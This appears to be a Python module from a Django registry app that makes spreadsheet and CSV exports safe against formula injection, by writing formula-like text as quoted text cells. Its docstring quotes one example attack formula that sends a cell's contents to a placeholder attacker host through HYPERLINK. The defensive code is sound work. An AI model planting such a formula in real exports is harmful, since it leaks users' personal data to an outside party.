"""Every spreadsheet fupin writes (.xlsx through openpyxl, .csv through the csv module) goes through here.

Text that a person typed — a member's name, an address, a cell of an imported file echoed in
an error report — must never become a live formula in the county office's Excel (formula
injection: `=HYPERLINK("http://evil.example/?"&A2,"点击")`). A text cell that begins with
`=`, `+`, `-`, `@`, a tab or a carriage return is therefore written as text:

- in .xlsx, as a string cell (never openpyxl's formula type) with Excel's quote prefix
  (`quotePrefix`), so the value stays intact and Excel keeps it text even when the cell is edited;
- in .csv, which has no cell types, behind a leading apostrophe (OWASP's advice).

Numbers stay numbers (a negative amount is a number, not text), and so does text that is just
a number ("-12.50"): a spreadsheet reads it as the number it shows, which runs nothing.

Writers use `new_workbook()`, `append()` (or `safe_row()` for a write-only sheet's rows),
`save()` and `csv_writer()`; tests/registry/test_export_injection.py fails when a module of
fupin builds an openpyxl Workbook or a csv writer any other way.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

TRIGGERS = frozenset("=+-@\t\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
# a row of text cells is screened in one C-level search over the joined row
_JOINED_TRIGGER = re.compile("\x00[=+\\-@\t\r]")


def is_formula_like(value: object) -> bool:
    """Text a spreadsheet would take for a formula (or start one with, once the cell is edited)."""
    return isinstance(value, str) and value[:1] in TRIGGERS and _NUMBER.fullmatch(value) is None


def new_workbook(*, write_only: bool = False) -> Workbook:
    """A workbook to fill with `append`/`safe_row` and write with `save`."""
    return Workbook(write_only=write_only)


def text_cell(sheet: Worksheet, value: str) -> Cell:
    """A cell that holds `value` as text, whatever it begins with (quote prefix, string type)."""
    cell = Cell(sheet, row=1, column=1)
    cell._value = value  # type: ignore[attr-defined]  # written as text, never parsed as a formula
    cell.data_type = "s"
    cell.quotePrefix = True
    return cell


def safe_row(sheet: Worksheet, values: Iterable) -> list:
    """The row with each formula-like text replaced by a text cell; the same list when it has none."""
    row = values if isinstance(values, list) else list(values)
    try:
        if _JOINED_TRIGGER.search("\x00" + "\x00".join(row)) is None:
            return row
    except TypeError:  # not all text: look at each cell
        row = [
            str(v) if isinstance(v, Promise) else v for v in row
        ]  # a translated label, in the active language
    return [text_cell(sheet, v) if is_formula_like(v) else v for v in row]


def append(sheet: Worksheet, values: Iterable) -> None:
    """`sheet.append(values)`, formula-like text written as text."""
    sheet.append(safe_row(sheet, values))


def make_cells_text(workbook: Workbook) -> None:
    """Turn every formula-like text of a (not write-only) workbook into text, however it was set."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell._value  # type: ignore[union-attr]
                if cell.data_type == "f" or is_formula_like(value):
                    cell._value = value if isinstance(value, str) else str(value)  # type: ignore[union-attr]
                    cell.data_type = "s"
                    cell.quotePrefix = True


def save(workbook: Workbook, out: Any) -> None:
    """Write the workbook to `out` (a path or binary file); a normal workbook is screened first.

    A write-only workbook's rows are already on disk: they must have gone through `safe_row`.
    """
    if not getattr(workbook, "write_only", False):
        make_cells_text(workbook)
    workbook.save(out)


def csv_text(value: Any) -> Any:
    """A value for a .csv cell: formula-like text behind an apostrophe, the rest as it is."""
    return "'" + value if is_formula_like(value) else value


class _SafeWriter:
    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Iterable) -> Any:
        return self._writer.writerow([csv_text(v) for v in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(text_file: Any, **kwargs: Any) -> _SafeWriter:
    """`csv.writer(text_file)` whose rows have formula-like text made inert."""
    return _SafeWriter(csv.writer(text_file, **kwargs))


def write_records(
    records: Iterable[dict[str, Any]],
    out: Any,
    *,
    sheet_name: str,
    widths: list[float],
    text_columns: Iterable[str],
) -> None:
    """Write `records` (heading → value, a generator is read once, in constant memory) to `out` (a path or
    binary file) as one .xlsx sheet through rustpy-xlsxwriter: numbers and dates as such, a text never a
    formula, and every text column with Excel's quote prefix, so formula-like text stays text when the cell is
    edited."""
    import rustpy_xlsxwriter

    text = rustpy_xlsxwriter.Format().set_quote_prefix()
    rustpy_xlsxwriter.write_worksheet(
        records,
        out,
        sheet_name=sheet_name,
        freeze_row=1,
        bold_headers=True,
        datetime_format="yyyy-mm-dd",
        column_widths=widths,
        column_formats=dict.fromkeys(text_columns, text),
    )
